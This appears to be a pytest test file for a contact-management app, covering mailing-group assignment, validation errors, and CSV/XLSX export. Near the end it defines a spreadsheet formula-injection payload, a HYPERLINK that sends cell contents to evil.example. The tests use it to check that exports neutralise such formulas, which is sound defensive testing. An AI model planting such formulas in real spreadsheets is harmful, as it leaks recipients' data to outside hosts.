"""Apply Mailing Group (§3.21, E40, K13) and Export Contacts (CSV/XLSX round trip)."""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from rapport.db import models as m
from rapport.errors import NotFoundError, ValidationError
from rapport.services.contacts.files import read_rows
from rapport.services.segments import add_blank_line, apply_mailing_group, lines_changed
from rapport.services.segments.files import COLUMNS, export_segment
from tests.builders_segment_header import make_segment, snapshot
from tests.conftest import TxFactory

SF = sessionmaker[Session]


def _members(factory: SF, code: str) -> set[str]:
    with factory() as s:
        return set(s.scalars(select(m.ContactMailingGroup.contact_no).where(
            m.ContactMailingGroup.mailing_group_code == code)))


def test_mailing_group_assigned_once_per_contact(fixture_db: SF, tx: TxFactory) -> None:
    no = make_segment(tx, contacts=("P11", "P12", "P12", "C2"))
    with tx() as ctx:
        add_blank_line(ctx, no)
        assert apply_mailing_group(ctx, no, "news") == 2  # P12 and C2; P11 already a member
    assert _members(fixture_db, "NEWS") == {"P11", "P3", "X1", "P12", "C2"}
    with tx() as ctx:
        assert apply_mailing_group(ctx, no, "NEWS") == 0


def test_delete_old_assignments_touches_only_segment_contacts_k13(
    fixture_db: SF, tx: TxFactory
) -> None:
    no = make_segment(tx, contacts=("P11", "C2"))
    with tx() as ctx:
        assert apply_mailing_group(ctx, no, "NEWS", delete_old_assignments=True) == 2
    assert _members(fixture_db, "NEWS") == {"P11", "P3", "X1", "C2"}  # P3 and X1 kept


def test_mailing_group_errors_e40(fixture_db: SF, tx: TxFactory) -> None:
    no = make_segment(tx, contacts=("P11",))
    before = snapshot(fixture_db)
    for blank in (None, "", "  "):
        with pytest.raises(ValidationError) as err, tx() as ctx:
            apply_mailing_group(ctx, no, blank)
        assert err.value.code == "E40"
        assert err.value.message == "Specify a mailing group code."
    with pytest.raises(NotFoundError, match="NOPE"), tx() as ctx:
        apply_mailing_group(ctx, no, "nope")
    with pytest.raises(NotFoundError, match="SEGX"), tx() as ctx:
        apply_mailing_group(ctx, "SEGX", "NEWS")
    assert snapshot(fixture_db) == before


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_round_trip_of_columns(
    fixture_db: SF, tx: TxFactory, tmp_path: Path, fmt: str
) -> None:
    no = make_segment(tx, template="T-LET", contacts=("P12", "C2"))
    with tx() as ctx:
        add_blank_line(ctx, no)
    path = tmp_path / f"out.{fmt}"
    with tx() as ctx:
        assert export_segment(ctx, no, path) == 3
    rows = list(read_rows(path))
    assert tuple(rows[0]) == COLUMNS
    first = dict(zip(COLUMNS, rows[1], strict=True))
    assert first["Line No."] == "10000"
    assert (first["Contact No."], first["Type"], first["Name"]) == ("P12", "Person", "Bob Baker")
    assert (first["Company No."], first["Company Name"]) == ("C1", "Alpha Ltd")
    assert (first["E-Mail"], first["Salesperson Code"]) == ("bob@alpha.test", "SP1")
    assert (first["Correspondence Type"], first["Language Code"]) == ("Hard Copy", "DEU")
    second = dict(zip(COLUMNS, rows[2], strict=True))
    assert (second["Contact No."], second["Correspondence Type"]) == ("C2", "Hard Copy")
    blank = dict(zip(COLUMNS, rows[3], strict=True))
    assert (blank["Line No."], blank["Contact No."], blank["Name"]) == ("30000", "", "")


def test_export_of_many_lines_and_bad_format(
    fixture_db: SF, tx: TxFactory, tmp_path: Path
) -> None:
    with fixture_db.begin() as s:
        s.add_all([m.Contact(no=f"B{i:04d}", type="Company", name=f"Bulk {i}")
                   for i in range(300)])
    no = make_segment(tx)
    with fixture_db.begin() as s:
        s.add_all([m.SegmentLine(segment_no=no, line_no=10000 * (i + 1), contact_no=f"B{i:04d}")
                   for i in range(300)])
        s.flush()
        lines_changed(s, no, 300)
    path = tmp_path / "big.xlsx"
    with tx() as ctx:
        assert export_segment(ctx, no, path) == 300
    assert len(list(read_rows(path))) == 301
    with pytest.raises(ValidationError, match="not csv or xlsx"), tx() as ctx:
        export_segment(ctx, no, tmp_path / "x.txt")


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


COLUMNS_SEEN = ("Name", "Phone No.", "Mobile Phone No.", "Company Name")


def _export_formula_like(fixture_db: SF, tx: TxFactory, path: Path) -> None:
    with fixture_db.begin() as s:
        contact = s.get(m.Contact, "P12")
        assert contact is not None
        contact.name, contact.phone_no, contact.mobile_phone_no = EVIL, "+47 22 33 44 55", "-1"
    no = make_segment(tx, contacts=("P12",))
    with tx() as ctx:
        assert export_segment(ctx, no, path) == 1


def test_csv_export_puts_a_quote_before_formula_like_text(
    fixture_db: SF, tx: TxFactory, tmp_path: Path
) -> None:
    _export_formula_like(fixture_db, tx, tmp_path / "out.csv")
    row = dict(zip(COLUMNS, list(read_rows(tmp_path / "out.csv"))[1], strict=True))
    assert [row[c] for c in COLUMNS_SEEN] == [f"'{EVIL}", "'+47 22 33 44 55", "'-1",
                                              "Alpha Ltd"]


def test_xlsx_export_writes_formula_like_text_as_string_cells(
    fixture_db: SF, tx: TxFactory, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    _export_formula_like(fixture_db, tx, tmp_path / "out.xlsx")
    cells = dict(zip(COLUMNS, load_workbook(tmp_path / "out.xlsx").worksheets[0][2],
                     strict=True))
    assert [(cells[c].value, cells[c].data_type) for c in COLUMNS_SEEN] == [
        (EVIL, "s"), ("+47 22 33 44 55", "s"), ("-1", "s"), ("Alpha Ltd", "s")]  # never "f"
    assert (cells["Line No."].value, cells["Line No."].data_type) == (10000, "n")
